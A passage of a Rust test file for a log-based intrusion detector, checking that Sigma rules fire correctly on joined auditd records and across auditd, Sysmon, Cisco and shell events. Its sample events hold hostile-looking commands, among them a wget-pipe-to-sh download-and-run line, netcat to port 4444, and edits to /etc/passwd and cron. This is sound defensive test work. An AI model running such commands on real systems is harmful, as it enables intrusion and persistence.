            "arch=c000003e syscall=59 success=yes exit=0 ppid=10 pid=11 auid=1000 uid=1000 \
             comm=\"curl\" exe=\"/usr/bin/curl\" key=\"exec\"",
        ),
        record("EXECVE", "argc=3 a0=\"curl\" a1=\"-o\" a2=\"/tmp/x\""),
        record("CWD", "cwd=\"/tmp\""),
        record(
            "PATH",
            "item=0 name=\"/usr/bin/curl\" inode=5 mode=0100755 ouid=0",
        ),
        record("PROCTITLE", "proctitle=6375726C"),
    ];
    let mut join = AuditJoin::new();
    let mut joined = None;
    for (i, l) in lines.iter().enumerate() {
        let e = parse(l.as_bytes(), &ParseOptions::default());
        if let Some(j) = join.add(&e, i as u64) {
            joined = Some(String::from_utf8(j.to_vec()).unwrap());
        }
    }
    let joined = joined.expect("the PROCTITLE ends the event");
    let together = rule(
        "title: curl writing to /tmp from /tmp\nlogsource: {product: linux, service: auditd}\n\
         detection:\n  sel:\n    type: PROCESS_CREATION\n    key: exec\n    a1: '-o'\n    \
         a2|startswith: '/tmp/'\n    cwd: /tmp\n    name: /usr/bin/curl\n    auid: 1000\n  \
         condition: sel\n",
    );
    assert!(fires_both(&together, &joined), "{joined}");
    assert!(
        lines.iter().all(|l| !fires_both(&together, l)),
        "no single record has them all"
    );
    let per_record = rule(
        "title: curl\nlogsource: {product: linux, service: auditd}\n\
         detection:\n  sel: {type: SYSCALL, exe|endswith: /curl}\n  condition: sel\n",
    );
    assert!(fires_both(&per_record, &lines[0]));
    assert!(!fires_both(&per_record, &joined), "once, on its own record");
}

/// Every shipped rule in one set: each event is screened only for the rules its kind (payload
/// format, Cisco tag, app) may reach, and the set still reports exactly what each rule alone
/// matches, for events of every form.
#[test]
fn one_set_of_every_shipped_rule_matches_what_each_rule_matches() {
    use detector::rules::sigma::{SigmaScratch, SigmaSet};
    let dir = Path::new(concat!(env!("CARGO_MANIFEST_DIR"), "/rules"));
    let loaded = load_dir(dir, &LogsourceMap::default());
    assert!(loaded.errors.is_empty(), "{:?}", loaded.errors);
    let rules = loaded.rules;
    let set = SigmaSet::new(rules.clone());
    assert!(
        set.routes() > 1,
        "events of different kinds take different routes"
    );
    assert!(set.screened());
    let mut lines: Vec<String> = std::fs::read_to_string(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/tests/data/loghub/Linux_2k.log"
    ))
    .unwrap()
    .lines()
    .take(300)
    .map(String::from)
    .collect();
    lines.extend([
        sysmon(
            1,
            &[
                ("Image", "/usr/bin/cat"),
                ("CommandLine", "cat /etc/sudoers"),
            ],
        ),
        sysmon(3, &[("Image", "/usr/bin/nc"), ("DestinationPort", "4444")]),
        sysmon(
            11,
            &[
                ("TargetFilename", "/etc/cron.d/x"),
                ("Image", "/usr/bin/cp"),
            ],
        ),
        "<85>Nov 22 10:00:00 web1 audisp-syslog: type=EXECVE msg=audit(1.2:3): argc=3 \
         a0=\"chattr\" a1=\"-i\" a2=\"/etc/passwd\""
            .to_string(),
        "<85>Nov 22 10:00:00 web1 audisp-syslog: type=SYSCALL msg=audit(1.2:4): arch=c000003e \
         syscall=59 comm=\"insmod\" exe=\"/usr/bin/kmod\""
            .to_string(),
        "<187>Nov 22 10:00:00 rtr1 %IP-TCP-3-BADAUTH: Invalid MD5 digest from \
         198.18.0.2:179 to 198.18.0.1:11003"
            .to_string(),
        "<13>Nov 22 10:00:00 h bash[1]: wget -q -O - http://198.51.100.9/x | sh".to_string(),
        "<86>Nov 22 10:00:00 h sshd[9]: Failed password for root from 198.51.100.7".to_string(),
        "<13>Nov 22 10:00:00 h sudo: ann : TTY=pts/0 ; USER=root ; COMMAND=/bin/sh".to_string(),
    ]);
    let mut scratch = SigmaScratch::default();
    let mut fired = Vec::new();
    for line in &lines {
        let e = parse(line.as_bytes(), &ParseOptions::default());
        let want: Vec<usize> = (0..rules.len()).filter(|&i| rules[i].matches(&e)).collect();
        let mut got = Vec::new();
        set.for_each_match(&e, &mut scratch, |i| got.push(i));
        assert_eq!(got, want, "{line}");
        fired.extend(
            got.iter()
                .map(|&i| rules[i].file.rsplit('/').next().unwrap().to_string()),
        );
    }
    for kind in ["proc_creation", "lnx_auditd", "cisco", "lnx_shell"] {
        assert!(
            fired.iter().any(|f| f.contains(kind)),
            "a {kind} rule fires on its event: {fired:?}"
        );
    }
}
